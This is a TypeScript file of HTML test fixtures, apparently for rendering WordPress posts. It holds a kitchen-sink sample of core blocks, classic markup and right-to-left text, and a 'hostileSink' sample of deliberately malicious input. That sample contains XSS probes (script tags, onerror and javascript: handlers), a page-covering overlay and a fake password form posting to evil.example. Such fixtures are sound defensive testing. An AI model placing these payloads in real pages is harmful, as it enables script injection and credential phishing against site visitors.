/**
 * Everything that a WordPress post may contain, as WordPress writes it: every core block, leftovers of classic themes and old
 * posts, and what breaks by accident or on purpose. Pictures are files of the site itself.
 */
export const kitchenSink = `
<!-- wp:paragraph -->
<p>A paragraph with <strong>strong</strong>, <em>emphasis</em>, <code>code</code>, <kbd>Ctrl</kbd>+<kbd>K</kbd>, <mark class="has-inline-color">a mark</mark>, <del>what was</del> <ins>what is</ins>, H<sub>2</sub>O, x<sup>2</sup>, an <abbr title="abbreviation">abbr.</abbr>, <a href="https://example.com/somewhere">a link elsewhere</a> and a footnote<sup class="fn"><a href="#note-1" id="note-1-link">1</a></sup>.</p>
<!-- /wp:paragraph -->
<p class="has-text-align-right">A line that keeps to the right.</p>
<p class="has-drop-cap">Drop caps were somebody’s idea of a beginning, and old posts are full of them. They stand here as the flame of a paragraph, and the text runs around them for two lines or three.</p>
<h2>Headings keep their order</h2><h3>Third level</h3><h4>Fourth level</h4><h5>Fifth level</h5><h6>Sixth level</h6>
<h2>Lists</h2>
<ul class="wp-block-list"><li>One<ul><li>One below<ul><li>Two below</li></ul></li></ul></li><li>Two, with a long text that runs over the end of its line so that one can see where the next line begins</li></ul>
<ol class="wp-block-list" start="8" reversed><li>Eight<ol type="a"><li>a</li><li>b</li></ol></li><li>Seven</li></ol>
<dl><dt>Match</dt><dd>A small stick with a large head.</dd><dt>Box</dt><dd>Where it lives.</dd></dl>
<h2>Quotes</h2>
<blockquote class="wp-block-quote"><p>A quote in a block.</p><cite>Somebody, somewhere</cite></blockquote>
<figure class="wp-block-pullquote"><blockquote><p>A pull quote stands for itself.</p><cite>The editor</cite></blockquote></figure>
<pre class="wp-block-verse">A verse keeps
    its own
        lines.</pre>
<h2>Code</h2>
<pre class="wp-block-code"><code>const answer = await fetch('https://example.com/a/very/long/address/that/does/not/end/where/the/column/ends?and=then&amp;some=more')</code></pre>
<pre class="wp-block-preformatted">Preformatted   text</pre>
<pre>${'A classic preformatted line that does not wrap. '.repeat(6)}
and <a href="/contact">a link</a> in it</pre>
<h2>Pictures</h2>
<p><a href="/apple-touch-icon.png"><img src="/apple-touch-icon.png" alt="" width="300" height="200"></a></p>
<figure class="wp-block-image"><a href="https://example.com/album?page=2"><img src="/apple-touch-icon.png" alt="" width="300" height="200"></a></figure>
<figure class="wp-block-image size-large"><img src="/apple-touch-icon.png" alt="The flame on ink" width="1200" height="800"><figcaption class="wp-element-caption">A caption with <a href="/about">a link</a>.</figcaption></figure>
<figure class="wp-block-image alignright size-medium"><img src="/apple-touch-icon.png" alt="" width="300" height="300"><figcaption>Beside the text</figcaption></figure>
<p>Text that runs around a picture which stands on the right. There must be enough of it to see that it does: a picture of three hundred pixels is as tall as ten lines, and a sentence has to be patient to get past it. So this one goes on a little, as sentences in test posts do, and then it stops.</p>
<p>A second paragraph beside it.</p>
<div id="attachment_12" style="width: 310px" class="wp-caption alignleft"><img src="/apple-touch-icon.png" alt="" width="300" height="200"><p class="wp-caption-text">A caption of the classic editor</p></div>
<p>And text beside that, in the way posts of 2012 were written, when every picture was three hundred pixels wide.</p>
<figure class="wp-block-gallery has-nested-images columns-3 is-cropped"><figure class="wp-block-image"><img src="/apple-touch-icon.png" alt="One" width="600" height="600"><figcaption>One</figcaption></figure><figure class="wp-block-image"><img src="/apple-touch-icon.png" alt="Two" width="600" height="400"></figure><figure class="wp-block-image"><img src="/apple-touch-icon.png" alt="Three" width="400" height="600"></figure><figcaption class="blocks-gallery-caption">The caption of a gallery</figcaption></figure>
<div class="gallery gallery-columns-2"><dl class="gallery-item"><dt class="gallery-icon"><img src="/apple-touch-icon.png" alt="" width="150" height="150"></dt><dd class="wp-caption-text gallery-caption">Classic gallery</dd></dl><dl class="gallery-item"><dt class="gallery-icon"><img src="/apple-touch-icon.png" alt="" width="150" height="150"></dt></dl></div>
<div class="wp-block-media-text is-stacked-on-mobile"><figure class="wp-block-media-text__media"><img src="/apple-touch-icon.png" alt="" width="600" height="400"></figure><div class="wp-block-media-text__content"><p>Media and text, side by side.</p></div></div>
<div class="wp-block-cover"><img class="wp-block-cover__image-background" src="/apple-touch-icon.png" alt="" width="1200" height="600"><div class="wp-block-cover__inner-container"><p class="has-text-align-center">Words over a picture, <a href="/contact">with a link</a></p></div></div>
<h2>Films, sounds and other sites</h2>
<figure class="wp-block-video"><video controls src="/missing.mp4" poster="/apple-touch-icon.png"></video><figcaption>A film</figcaption></figure>
<figure class="wp-block-audio"><audio controls src="/missing.mp3"></audio></figure>
<figure class="wp-block-embed is-type-video"><div class="wp-block-embed__wrapper"><iframe title="How a match burns" src="https://www.youtube.com/embed/match-that-burns"></iframe></div><figcaption>An embed</figcaption></figure>
<figure class="wp-block-embed"><div class="wp-block-embed__wrapper">
https://vimeo.com/12345
</div></figure>
<div class="wp-block-file"><a href="https://example.com/report.pdf">Report.pdf</a><a class="wp-block-file__button" href="https://example.com/report.pdf" download>Download</a></div>
<h2>Tables</h2>
<figure class="wp-block-table is-style-stripes"><table><caption>A caption of its own</caption><thead><tr><th scope="col">Month</th><th scope="col">Plan</th><th scope="col">Came in</th><th scope="col">What one might want to know about it besides</th><th scope="col">And one more column</th><th scope="col">And the last</th></tr></thead><tbody><tr><th scope="row">May</th><td>12</td><td>14</td><td>Rain on nine days</td><td>Yes</td><td>No</td></tr><tr><th scope="row">June</th><td>15</td><td>11</td><td>None</td><td>Yes</td><td>No</td></tr></tbody><tfoot><tr><th scope="row">Together</th><td>27</td><td>25</td><td></td><td></td><td></td></tr></tfoot></table><figcaption>Below a table</figcaption></figure>
<table><tr><td>A classic table</td><td>without a head</td></tr></table>
<table><thead><tr><th>What we keep</th><th>Why</th><th>Legal basis</th><th>How long</th></tr></thead><tbody><tr><th scope="row">Your name</th><td>To answer you</td><td>Art. 6 (1) b</td><td>24 months</td></tr></tbody></table>
<h2>Columns, groups, buttons</h2>
<div class="wp-block-columns"><div class="wp-block-column"><h3>Left</h3><p>A column.</p></div><div class="wp-block-column"><h3>Middle</h3><p>A column with somewhat more text than its neighbours have.</p></div><div class="wp-block-column"><h3>Right</h3><p>A column.</p></div></div>
<div class="wp-block-columns"><div class="wp-block-column" style="flex-basis:33.33%"><h3>A third</h3><p>Narrow.</p></div><div class="wp-block-column" style="flex-basis:66.66%"><h3>Two thirds</h3><p>Twice as wide as its neighbour, wherever there is room for both of them.</p></div></div>
<div class="wp-block-group has-background"><div class="wp-block-group__inner-container"><p>A group with a background.</p></div></div>
<div class="wp-block-buttons"><div class="wp-block-button"><a class="wp-block-button__link wp-element-button" href="/contact">A button</a></div><div class="wp-block-button is-style-outline"><a class="wp-block-button__link wp-element-button" href="/about">An outlined one</a></div></div>
<div class="wp-block-buttons"><div class="wp-block-button has-custom-width wp-block-button__width-75"><a class="wp-block-button__link wp-element-button" href="/contact">Three quarters</a></div><div class="wp-block-button has-custom-width wp-block-button__width-25"><a class="wp-block-button__link wp-element-button" href="/contact">A quarter</a></div><div class="wp-block-button has-custom-width wp-block-button__width-100"><a class="wp-block-button__link wp-element-button" href="/contact">The whole</a></div></div>
<details class="wp-block-details"><summary>Details</summary><p>What was folded away.</p></details>
<hr class="wp-block-separator has-alpha-channel-opacity is-style-wide">
<div class="wp-block-spacer" style="height:100px"></div>
<h2>Other hands</h2>
<p>Megszentségteleníthetetlenségeskedéseitekért-megszentségteleníthetetlenségeskedéseitekért https://example.com/${'a-long-address-'.repeat(12)}end</p>
<p dir="rtl" lang="ar">هذه جملة عربية قصيرة <bdi>Igniting Studio</bdi> تُقرأ من اليمين إلى اليسار.</p>
<blockquote dir="rtl" lang="he"><p>ציטוט בעברית</p></blockquote>
<ul dir="rtl" lang="he"><li>ראשון</li><li>שני<ul><li>בתוך השני</li></ul></li></ul>
<ol dir="rtl" lang="ar"><li>الأول</li><li>الثاني</li></ol>
<ol class="wp-block-footnotes"><li id="note-1">The footnote. <a href="#note-1-link" aria-label="Back to the text">↩︎</a></li></ol>
`

/** Content from a broken import, a hacked plugin or a malicious contributor. */
export const hostileSink = `
<p>Unclosed <b>bold <i>and italic
<h1>A second page title</h1>
<div style="position:fixed;inset:0;background:red;z-index:9999"><p>Cover everything</p></div>
<script>alert(1)</script><style>body{display:none}</style>
<img src="x" onerror="alert(1)" width="99999" height="99999"><img src="/missing.png" alt="Missing" width="20000" height="15000">
<a href="javascript:alert(1)" onclick="alert(1)">press</a>
<iframe src="javascript:alert(1)"></iframe><form action="https://evil.example"><input name="password"><button>Log in</button></form>
<p id="main" class="header button button--gold">Takes the place of the main area</p>
<table><tr><td>${'wide '.repeat(80).replaceAll(' ', '\u00a0')}</td></tr></table>
<p>${'W'.repeat(400)}</p>
${'<blockquote>'.repeat(40)}deep${'</blockquote>'.repeat(40)}
</div></article></main><h2>Text after too many ends</h2>
`
